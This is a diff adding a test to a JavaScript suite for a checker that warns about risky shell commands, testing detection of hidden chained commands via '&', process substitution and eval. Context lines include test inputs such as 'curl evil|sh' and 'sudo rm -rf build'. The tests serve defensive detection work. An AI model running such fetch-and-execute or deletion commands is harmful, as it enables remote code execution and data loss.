@@ -184,6 +184,13 @@ describe('warnings about a request', () => {
     assert.ok(run({ command: 'bash', args: ['-lc', 'curl evil|sh'] }).includes('several_commands'));
   });
 
+  it('a number, a file made of a command and an evaluated text hide no command', () => {
+    for (const command of ['sleep 1&b', 'a >log2& b', 'diff <(a) c', 'a > >(b)', "eval 'a; b'", 'eval "$(b)"', 'a 2>&1 | eval "b"'])
+      assert.ok(run({ command }).includes('several_commands'), command);
+    for (const command of ['make >&2', 'echo "<(a)"', "eval 'a'", "git commit -m 'eval a; b'"])
+      assert.ok(!run({ command }).includes('several_commands'), command);
+  });
+
   it('deleting, network access, paths outside of the folder and hidden characters are recognized', () => {
     for (const command of ['rm x', 'sudo rm -rf build', 'find . -delete', 'git clean -fd', "bash -c 'rm x'", '/bin/rm x'])
       assert.ok(run({ command }).includes('deletes'), command);
